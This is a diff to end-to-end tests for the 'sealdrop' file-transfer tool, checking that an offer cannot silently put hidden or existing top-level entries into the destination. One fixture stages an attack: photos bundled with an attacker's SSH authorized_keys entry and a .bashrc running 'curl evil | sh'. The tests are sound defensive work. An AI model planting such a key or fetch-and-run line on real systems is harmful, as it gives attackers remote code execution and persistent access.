@@ -1,6 +1,7 @@
 /**
- * End to end, the real bin/sealdrop receiving: that a failed commit lands nothing (section 6), and
- * what a refusal before ACCEPT tells the peer (only the code; the person sees the details).
+ * End to end, the real bin/sealdrop receiving: what an offer may put into the destination without
+ * the person's leave (PROTOCOL.md section 6 step 2), that a failed commit lands nothing (section 6),
+ * and what a refusal before ACCEPT tells the peer (only the code; the person sees the details).
  */
 import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
@@ -10,7 +11,7 @@ import { RecordType } from '../../src/protocol/records.js';
 import { partFileName } from '../../src/transport/destination.js';
 import { killLeftovers } from '../support/cli.js';
 import { e2e, type E2EScope } from '../support/e2e.js';
-import { listTree, sha256Hex } from '../support/files.js';
+import { listTree, setMtimeExactMs, sha256Hex } from '../support/files.js';
 import { TestPeer } from '../support/test-peer.js';
 
 afterAll(killLeftovers);
@@ -47,6 +48,93 @@ async function errorTo(peer: TestPeer): Promise<{ code: string; message: string 
   expect(record?.type).toBe(RecordType.ERROR);
   return JSON.parse(record!.body.toString());
 }
+
+describe('section 6 step 2: the top-level entries of an offer', () => {
+  e2e('the attack of issue 10: holiday photos with .ssh/authorized_keys and .bashrc into a home that has .ssh/ — refused with --yes, nothing written, all entries listed even with --quiet', async ({ sd }) => {
+    const photos = Object.fromEntries(Array.from({ length: 10 }, (_, i) => [`holiday/IMG_${1000 + i}.jpg`, `photo ${i}\n`]));
+    writeTree(sd.ws.src, { ...photos, '.ssh/authorized_keys': 'ssh-ed25519 AAAA attacker\n', '.bashrc': 'curl evil | sh\n' });
+    writeTree(sd.ws.out, { '.ssh/known_hosts': 'mine\n' });
+    const before = listTree(sd.ws.out);
+
+    const receiver = await sd.startReceiver({ out: sd.ws.out, args: ['--yes', '--quiet'] });
+    const sources = ['holiday', '.ssh', '.bashrc'].map((name) => path.join(sd.ws.src, name));
+    const sender = sd.startSender({ to: receiver.address, code: receiver.code, paths: sources });
+    expect(await sender.waitForExit(), sender.describe()).toBe(5);
+    expect(await receiver.process.waitForExit(), receiver.process.describe()).toBe(5);
+
+    const shown = receiver.process.stderr;
+    expect(shown).toMatch(/^It puts 3 top-level entries into .*:$/m);
+    expect(shown).toMatch(/^ {2}holiday\/ {2}10 files, 80 B$/m);
+    expect(shown).toMatch(/^ {2}\.ssh\/ {2}1 file, 26 B {2}\(ALREADY EXISTS here, hidden\)$/m);
+    expect(shown).toMatch(/^ {2}\.bashrc {2}15 B {2}\(hidden\)$/m);
+    expect(shown).toMatch(/^sealdrop: E_BAD_PATH: the offer would create hidden \.ssh\/, \.bashrc in the destination; receive with --merge/m);
+    expect(sender.stderr).toMatch(/^sealdrop: E_BAD_PATH: .*the receiver refused the offer \(E_BAD_PATH\)$/m);
+    expect(listTree(sd.ws.out)).toEqual(before);
+  });
+
+  e2e('an offer into an existing bin/ is refused with --yes (E_EXISTS), and lands with --merge; --json still lists the entries', async ({ sd }) => {
+    writeTree(sd.ws.src, { 'bin/ls': 'not really ls\n', 'notes.txt': 'hello\n' });
+    writeTree(sd.ws.out, { 'bin/true': 'mine\n' });
+    const sources = [path.join(sd.ws.src, 'bin'), path.join(sd.ws.src, 'notes.txt')];
+
+    const refusing = await sd.startReceiver({ out: sd.ws.out, args: ['--yes', '--json'] });
+    const refused = sd.startSender({ to: refusing.address, code: refusing.code, paths: sources });
+    expect(await refused.waitForExit(), refused.describe()).toBe(5);
+    expect(await refusing.process.waitForExit(), refusing.process.describe()).toBe(5);
+    expect(refusing.process.stderr).toMatch(/^ {2}bin\/ {2}1 file, 14 B {2}\(ALREADY EXISTS here\)$/m);
+    expect(refusing.process.stderr).toMatch(/^ {2}notes\.txt {2}6 B$/m);
+    expect(refusing.process.stderr).toMatch(/^sealdrop: E_EXISTS: the offer would write into bin\/, which existed before it/m);
+    expect(listTree(sd.ws.out)).toEqual(['bin/', 'bin/true']);
+
+    const merging = await sd.startReceiver({ out: sd.ws.out, args: ['--yes', '--merge', '--json'] });
+    const merged = sd.startSender({ to: merging.address, code: merging.code, paths: sources });
+    expect(await merged.waitForExit(), merged.describe()).toBe(0);
+    expect(await merging.process.waitForExit(), merging.process.describe()).toBe(0);
+    expect(listTree(sd.ws.out)).toEqual(['bin/', 'bin/ls', 'bin/true', 'notes.txt']);
+    expect(JSON.parse(merging.process.stdout).topLevel).toEqual([
+      { name: 'bin', isDirectory: true, fileCount: 1, totalBytes: 14, existed: true },
+      { name: 'notes.txt', isDirectory: false, fileCount: 1, totalBytes: 6, existed: false },
+    ]);
+    expect(merging.process.stderr).toMatch(/^ {2}bin\/ {2}1 file, 14 B {2}\(ALREADY EXISTS here\)$/m);
+  });
+
+  e2e('a transfer of a new directory that broke off, then resumed by the real sender, lands without --merge', async ({ sd }) => {
+    const content = 'x'.repeat(64 * 1024);
+    writeTree(sd.ws.src, { 'photos/a.bin': content });
+    setMtimeExactMs(path.join(sd.ws.src, 'photos/a.bin'), MTIME_MS);
+
+    const { receiver, peer } = await receiverAndPeer(sd);
+    offer(peer, [{ path: 'photos/a.bin', size: content.length }]);
+    expect((await peer.nextRecord())?.type).toBe(RecordType.ACCEPT);
+    peer.send(RecordType.FILE, { index: 0, offset: 0 });
+    peer.send(RecordType.DATA, Buffer.from(content.slice(0, 1000)));
+    await new Promise((resolve) => setTimeout(resolve, 100)); // let the receiver write it
+    peer.destroy();
+    await receiver.process.waitForLine('stderr', /the transfer broke off/);
+    expect(listTree(sd.ws.out)).toContain('photos/');
+
+    const sender = sd.startSender({ to: receiver.address, code: CODE, paths: [path.join(sd.ws.src, 'photos')] });
+    expect(await sender.waitForExit(), sender.describe()).toBe(0);
+    expect(await receiver.process.waitForExit(), receiver.process.describe()).toBe(0);
+    expect(readFileSync(path.join(sd.ws.out, 'photos/a.bin'), 'utf8')).toBe(content);
+    expect(listTree(sd.ws.out)).toEqual(['photos/', 'photos/a.bin']); // no working file left
+  });
+
+  e2e('another offer into a directory a broken-off transfer created needs --merge', async ({ sd }) => {
+    const { receiver, peer } = await receiverAndPeer(sd);
+    offer(peer, [{ path: 'photos/a.bin', size: 10 }]);
+    expect((await peer.nextRecord())?.type).toBe(RecordType.ACCEPT);
+    peer.destroy();
+    await receiver.process.waitForLine('stderr', /the transfer broke off/);
+
+    const other = await TestPeer.connect(receiver.port);
+    sd.sockets.push(other.socket);
+    await other.handshake('initiator', CODE, Intent.SEND);
+    offer(other, [{ path: 'photos/b.bin', size: 10 }]);
+    expect((await errorTo(other)).code).toBe('E_EXISTS');
+    expect(await receiver.process.waitForExit(), receiver.process.describe()).toBe(5);
+  });
+});
 
 describe('section 6: a failed commit lands nothing', () => {
   e2e("the trigger of issue 10: an entry named like another entry's part record is refused (E_BAD_PATH), nothing written", async ({ sd }) => {
